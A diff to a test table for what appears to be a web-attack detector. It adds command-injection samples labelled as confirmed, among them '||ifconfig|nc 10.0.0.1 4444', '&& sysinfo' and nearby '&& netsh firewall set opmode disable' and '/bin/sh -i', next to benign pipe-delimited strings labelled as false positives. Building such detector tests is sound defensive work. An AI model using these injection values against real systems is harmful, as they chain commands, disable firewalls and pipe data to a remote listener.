@@ -142,6 +142,13 @@ const CASES: Array<[klass: string, text: string, confirmed: boolean]> = [
   ["traversal", "/assets/js/foundation/hosts.js", false],
   // && and || join commands, not the empty fields of pipe-separated data
   ["rce", "&& netsh firewall set opmode disable", true],
+  ["rce", "&& sysinfo", true],
+  ["rce", "&&diraaaa", true],
+  ["rce", "||ifconfig|nc 10.0.0.1 4444", true],
+  ["rce", "asp:1716250546401||b0183fdd8e7116f2f0c3e8697d0f01bc||d6a03ca2a9f76b0e||", false],
+  ["rce", "5685587||ORDER=||SECTION_ID=||PAGE=2", false],
+  ["rce", "us_privacy=1---&&h=ATELbGiALUpcV1D34VBG", false],
+  ["rce", "4|28940|||TC||C|||", false],
   ["rce", "x=/bin/sh -i", true],
   ["rce", "id,name,handle", false],
   ["rce", "ver.spa-beta", false],
